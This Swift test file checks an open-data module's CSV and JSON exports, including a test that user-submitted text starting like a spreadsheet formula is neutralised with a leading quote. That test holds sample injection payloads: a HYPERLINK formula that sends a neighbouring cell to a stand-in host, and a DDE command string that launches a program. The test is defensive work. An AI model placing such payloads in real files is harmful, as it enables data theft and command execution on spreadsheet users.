import Foundation
@testable import Pantau
import Testing
import Vapor

@Suite("Open data")
struct OpenDataTests {
    @Test func everyColumnIsExplainedInBothLanguages() {
        for dataset in OpenDataController.datasets {
            for column in OpenDataController.columns(dataset) {
                for language in Language.allCases {
                    #expect(LocalizationTests.localizer.messages[language]?["data.column." + column] != nil, "\(language): \(dataset).\(column)")
                }
            }
        }
    }

    @Test(arguments: TestDatabase.allCases)
    func everyTableDownloadsAsCSVAndJSON(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            _ = try await FirstStart.run(app, demo: false)
            let dictionary = try await app.http().get("/data")
            #expect(dictionary.text.contains("organisation_id"))
            for dataset in OpenDataController.datasets {
                let csv = try await app.http().get("/data/\(dataset).csv?plan=ran-ogi-2020-2022")
                #expect(csv.status == .ok, "\(dataset)")
                #expect(csv.text.dropFirst().hasPrefix(OpenDataController.columns(dataset).joined(separator: ",")), "\(dataset)")
                let json = try await app.http().get("/data/\(dataset).json")
                #expect(json.status == .ok)
                #expect((try JSONSerialization.jsonObject(with: Data(buffer: json.body))) is [[String: String]])
            }
            let targets = try await app.http().get("/data/targets.json?plan=ran-ogi-2020-2022")
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(buffer: targets.body)) as? [[String: String]])
            #expect(rows.count >= 243)
            #expect(try await app.http().get("/data/tidak-ada.csv").status == .notFound)
            #expect(try await app.http().get("/data/targets.csv?plan=tidak-ada").status == .notFound)
        }
    }

    /// Report texts and plan texts that start like formulas (`=HYPERLINK(...)` sends whoever clicks it, with the cell
    /// next to it, to another site) reach every public CSV as text: a quote before them, no live formula anywhere.
    @Test(arguments: TestDatabase.allCases)
    func noCSVCarriesALiveFormula(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            try await importPlan(SamplePlan.withFormulaLikeTexts(), on: app.db)
            let (seknas, implementerA, _, path) = try await ReportingCycleTests.openReport(app)
            let formula = #"=HYPERLINK("https://jahat.example/?d="&B2,"Lihat bukti")"#
            #expect(try await implementerA.postAndFollow(path, form: ["achievement": formula, "progress": "40"]).status == .ok)
            #expect(try await implementerA.postAndFollow("\(path)", form: ["action": "submit"]).status == .ok)
            // Only verified reports are public: score it, then publish.
            try await ReportingCycleTests.startVerification(app)
            let report = try #require(try await TargetReportModel.query(on: app.db).first())
            #expect(try await seknas.postAndFollow("/verify/reports/\(report.id!.uuidString)/score", form: ["score": "80"]).status == .ok)
            try await ReportingCycleTests.closeWindows(app)
            try await ReportingCycleTests.publish("B06", seknas: seknas)

            let visitor = TestBrowser(app: app)
            var files = OpenDataController.datasets.map { "/data/\($0).csv" }
            files += ["/plans/contoh-2030-2032/export/csv", "/plans/contoh-2030-2032/report.csv?period=B06"]
            var everyCell: [String] = []
            for file in files {
                let answer = try await visitor.get(file)
                #expect(answer.status == .ok, "\(file)")
                let cells = CSVText.rows(answer.text).flatMap { $0 }
                #expect(cells.filter(CSVText.startsLikeAFormula).isEmpty, "\(file): \(cells.filter(CSVText.startsLikeAFormula))")
                everyCell += cells
            }
            #expect(everyCell.contains("'" + formula))
            #expect(everyCell.contains("'=1+1") && everyCell.contains("'@cmd|' /C calc'!A0") && everyCell.contains("'+SUM(1,2)"))
            // The page and the JSON show the text as written.
            let json = try await visitor.get("/data/target_results.json")
            #expect(try json.json([[String: String]].self).contains { $0["achievement"] == formula })
        }
    }
}
